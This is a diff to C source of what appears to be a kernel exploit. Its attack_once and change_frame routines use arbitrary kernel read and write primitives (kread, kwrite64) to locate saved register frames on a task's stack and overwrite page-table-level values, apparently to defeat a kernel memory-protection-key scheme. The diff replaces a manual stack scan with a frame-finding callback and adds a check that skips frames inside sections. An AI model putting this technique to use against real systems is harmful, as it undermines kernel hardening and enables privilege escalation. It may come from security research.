@@ -27,7 +27,6 @@
 #define HOLD		5		/* milliseconds */
 #define SECONDS		40
 #define ENOUGH		8		/* frames that were changed */
-#define STACK_PART	(4 << 10)	/* of the stack, with what the helper uses */
 #define MOVED_PART	0x5f
 #define MOVED_TABLES	16
 #define NR_SAVED	1		/* byte of kpkeys_cpu: interrupted sections */
@@ -95,19 +94,20 @@ static bool find_target(struct target *target)
 }
 
 /* In a section the registers would be put back. */
-static bool is_helper(const struct target *target, const uint64_t *frame)
+static bool is_in_section(const struct target *target)
 {
 	uint8_t nr = 1;
 
-	return is_kernel_frame(frame) &&
-	       frame[FRAME_IP] - target->helper < HELPER_BEGIN &&
-	       !kread(target->state + NR_SAVED, &nr, sizeof(nr)) && !nr;
+	return kread(target->state + NR_SAVED, &nr, sizeof(nr)) || nr;
 }
 
-static void change_frame(struct target *target, uint64_t at, const uint64_t *frame)
+static void change_frame(void *data, uint64_t at, const uint64_t *frame)
 {
+	struct target *target = data;
 	int i;
 
+	if (is_in_section(target))
+		return;
 	for (i = 0; i < LEVEL_WORDS; i++)
 		if (frame[i] == LEVEL_PTE)
 			kwrite64(at + i * sizeof(*frame), NO_LEVEL);
@@ -116,23 +116,11 @@ static void change_frame(struct target *target, uint64_t at, const uint64_t *fra
 	target->changed++;
 }
 
-static void change_stack(struct target *target)
-{
-	static uint64_t words[STACK_PART / sizeof(uint64_t)];
-	uint64_t part = target->task.stack + target->task.stack_size - sizeof(words);
-	size_t i;
-
-	kread(part, words, sizeof(words));
-	for (i = 0; i + FRAME_WORDS <= STACK_PART / sizeof(*words); i++)
-		if (is_helper(target, words + i))
-			change_frame(target, part + i * sizeof(*words), words + i);
-}
-
 static void attack_once(struct target *target)
 {
 	set_lock(target->lock, true);
 	usleep(HOLD * 1000);
-	change_stack(target);
+	find_frames(&target->task, target->helper, HELPER_BEGIN, change_frame, target);
 	set_lock(target->lock, false);
 	usleep(HOLD * 1000);
 }
